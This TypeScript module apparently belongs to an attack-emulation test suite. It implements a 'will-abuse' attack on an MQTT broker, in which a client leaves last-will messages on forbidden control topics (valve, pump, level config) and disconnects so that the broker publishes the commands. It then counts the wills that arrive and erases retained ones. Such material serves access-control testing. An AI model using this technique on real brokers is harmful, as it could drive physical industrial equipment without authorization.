import type { Range } from '../range.ts'
import type { Attack } from './attack.ts'
import { connect, type Message, type Version } from './packets.ts'

/** The broker publishes a will once it has noticed the loss. */
const NOTICE = 1500

/** A will that is allowed must come within so many milliseconds. */
const TIMEOUT = 5000

/** Leaves wills on forbidden topics and dies, so that the broker itself sends the command. Effect: wills that arrived. */
export const willAbuse: Attack = {
  name: 'will-abuse',
  technique: 'T1692.001',
  title: 'Send a command as a last will',
  expected: 'access',
  alone: false,
  seconds: () => 4,
  async run(range) {
    await range.proveAccess()
    await proveWill(range)
    const { marker, sighting } = range.mark()
    const payload = JSON.stringify({ ts: Date.now(), trace: marker, source: 'controller-1', value: 1 })
    const wills: readonly (Message & { version: Version })[] = [
      { version: 4, topic: range.topic('valve-4', 'set'), payload },
      { version: range.observer.version, topic: range.topic('pump-2', 'set'), payload, qos: 1 },
      { version: 4, topic: range.topic('level-1', 'config'), payload, retain: true },
    ]
    let entered = 0
    for (const { version, ...will } of wills) {
      const session = await range.dial().catch(() => null)
      if ((await session?.login(connect({ version, clientId: range.device, will }))) === 0) entered += 1
      session?.destroy()
      await range.sleep(100)
    }
    await range.sleep(NOTICE)
    const left = [...sighting.topics.keys()].filter(topic => topic.endsWith('/config'))
    await range.observer.erase(left)
    const detail = `${sighting.count} of ${wills.length} wills arrived; ${entered} CONNECTs were accepted`
    return { attempts: wills.length, effect: sighting.count, detail }
  },
}

/** Leaves a legal will in the same way. If not even that is published, wills that do not arrive prove nothing. */
async function proveWill(range: Range): Promise<void> {
  const { marker, sighting } = range.mark()
  const payload = JSON.stringify(range.report(marker))
  const session = await range.enter(4, { will: { topic: range.topic(range.device, 'telemetry'), payload } })
  session.destroy()
  if (!(await range.until(() => sighting.count > 0, TIMEOUT))) throw new Error('A legal will was not published')
}
